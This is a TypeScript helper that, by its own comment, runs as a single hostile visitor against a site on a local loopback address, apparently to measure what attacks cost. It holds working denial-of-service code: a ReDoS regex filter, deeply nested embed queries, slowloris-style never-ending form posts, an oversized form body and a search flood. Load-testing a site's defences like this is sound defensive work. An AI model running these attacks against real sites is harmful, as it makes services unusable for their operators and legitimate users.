import { Agent, request } from "node:http";
import { connect, type Socket } from "node:net";
import { setPriority } from "node:os";

// A process of its own, started by attacks-cost.ts: one visitor who tries to make the site unusable
// for the others, from a loopback address of its own, until it is stopped.
const [site = "", name = "", key = ""] = process.argv.slice(2);
const localAddress = "127.0.0.9";
setPriority(10);

const { hostname, port } = new URL(site);
const agent = new Agent({ keepAlive: true, localAddress });

function ask(method: string, path: string, body = "", type = "application/x-www-form-urlencoded") {
  const headers = {
    ...(path.startsWith("/rest/") && { apikey: key }),
    ...(body && { "content-type": type, "content-length": Buffer.byteLength(body), origin: site }),
  };
  return new Promise<void>((resolve) => {
    const asked = request({ hostname, port, method, path, headers, agent }, (answer) => {
      answer.resume().once("end", resolve).once("error", resolve);
    });
    asked.once("error", () => resolve());
    asked.end(body);
  });
}

/** Repeats an attack with this many clients, each continuing as soon as it is answered. */
function again(clients: number, attack: (turn: number) => Promise<void>) {
  let turn = 0;
  for (let client = 0; client < clients; client++) {
    void (async () => {
      for (;;) await attack(turn++);
    })();
  }
}

/** A form whose body never ends; starts another when it is cut off. */
function sendSlowly() {
  const socket: Socket = connect({ host: hostname, port: Number(port), localAddress });
  const head = `POST /contact HTTP/1.1\r\nhost: ${hostname}:${port}\r\norigin: ${site}\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 5000\r\n\r\n`;
  socket.once("connect", () => socket.write(head));
  const drip = setInterval(() => socket.write("a=b&"), 1_000);
  socket
    .on("error", () => {})
    .once("close", () => {
      clearInterval(drip);
      setTimeout(sendSlowly, 100);
    });
  socket.resume();
}

const embedded = (depth: number): string =>
  depth === 0 ? "*" : `*,gallery_images(*,gallery_events(${embedded(depth - 1)}))`;

const attacks: Record<string, () => void> = {
  pattern: () =>
    again(2, () =>
      ask(
        "GET",
        `/rest/v1/site_content?key=imatch.${encodeURIComponent("^((([a-z/-])+.)+)+[A-Z0]$")}`,
      ),
    ),
  embeds: () => again(2, () => ask("GET", `/rest/v1/gallery_events?select=${embedded(4)}`)),
  "slow-forms": () => {
    for (let form = 0; form < 20; form++) sendSlowly();
  },
  fields: () => again(2, () => ask("POST", "/contact", "a=b&".repeat(200_000))),
  searches: () =>
    again(20, (turn) =>
      ask("GET", `/search?q=${encodeURIComponent(`admisions kalendr ${turn} libary`)}`),
    ),
};
const attack = attacks[name];
if (!attack) throw new Error(`There is no attack named ${name}.`);
attack();
